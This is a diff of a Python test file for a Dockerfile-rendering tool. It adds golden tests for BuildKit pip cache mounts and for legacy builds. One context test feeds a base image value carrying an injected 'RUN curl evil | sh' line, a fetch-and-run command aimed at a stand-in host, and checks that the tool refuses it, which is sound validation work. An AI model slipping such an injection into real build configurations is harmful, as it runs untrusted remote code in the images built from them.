@@ -153,3 +153,50 @@ def test_a_base_image_that_adds_a_dockerfile_line_is_refused(tmp_path):
     storage = Docker(base_image="python:3.11-slim\nRUN curl evil | sh", image_name="flows")
     with pytest.raises(FlowimgError, match="invalid base_image "):
         storage.image_spec()
+
+
+def test_golden_buildkit_dockerfile_mounts_pips_cache_and_the_wheelhouse():
+    """BuildKit only: pip's cache persists in a cache mount, the wheelhouse is bind-mounted, not copied."""
+    spec = ImageSpec(base_image="localhost:5000/base:1", repository="localhost:5000/flows", tag="v1",
+                     python_dependencies=("tinydep>=1,<3", "otherdep==2.0"), wheelhouse="/w",
+                     labels={"io.flowimg.version": "1"}, user="65532:65532")
+    assert render_dockerfile(spec, buildkit=True) == (
+        "FROM localhost:5000/base:1\n\n"
+        "ENV PYTHONDONTWRITEBYTECODE=1 PYTHONUNBUFFERED=1 PYTHONPATH=/opt/flowimg/lib\n\n"
+        'ENTRYPOINT ["python3", "-m", "flowimg.runtime"]\n\n'
+        "RUN --mount=type=cache,target=/root/.cache/pip --mount=type=bind,source=wheelhouse,target=/opt/flowimg/wheelhouse \\\n"
+        "    python3 -m pip install --no-index --find-links /opt/flowimg/wheelhouse 'tinydep>=1,<3' otherdep==2.0\n\n"
+        "COPY flowimg/lib /opt/flowimg/lib\n\n"
+        "COPY code/ /\n\n"
+        "USER 65532:65532\n\n"
+        'LABEL "io.flowimg.version"="1"\n'
+    )
+
+
+def test_golden_buildkit_dockerfile_installing_from_an_index():
+    spec = ImageSpec(base_image="python:3.11-slim", repository="flows", tag="latest", python_dependencies=("pandas>=2",))
+    assert render_dockerfile(spec, buildkit=True) == (
+        "FROM python:3.11-slim\n\n"
+        "ENV PYTHONDONTWRITEBYTECODE=1 PYTHONUNBUFFERED=1 PYTHONPATH=/opt/flowimg/lib\n\n"
+        'ENTRYPOINT ["python3", "-m", "flowimg.runtime"]\n\n'
+        "RUN --mount=type=cache,target=/root/.cache/pip \\\n"
+        "    python3 -m pip install 'pandas>=2'\n\n"
+        "COPY flowimg/lib /opt/flowimg/lib\n\n"
+        "COPY code/ /\n"
+    )
+
+
+def test_the_legacy_render_of_the_same_spec_has_no_mount():
+    """The legacy builder cannot read RUN --mount: its Dockerfile installs with pip's cache off."""
+    spec = ImageSpec(base_image="python:3.11-slim", repository="flows", tag="latest", python_dependencies=("pandas>=2",),
+                     wheelhouse="/w")
+    assert render_dockerfile(spec) == (
+        "FROM python:3.11-slim\n\n"
+        "ENV PYTHONDONTWRITEBYTECODE=1 PYTHONUNBUFFERED=1 PYTHONPATH=/opt/flowimg/lib\n\n"
+        'ENTRYPOINT ["python3", "-m", "flowimg.runtime"]\n\n'
+        "COPY wheelhouse /opt/flowimg/wheelhouse\n"
+        "RUN python3 -m pip install --no-cache-dir --no-index --find-links /opt/flowimg/wheelhouse 'pandas>=2' \\\n"
+        " && rm -rf /opt/flowimg/wheelhouse\n\n"
+        "COPY flowimg/lib /opt/flowimg/lib\n\n"
+        "COPY code/ /\n"
+    )
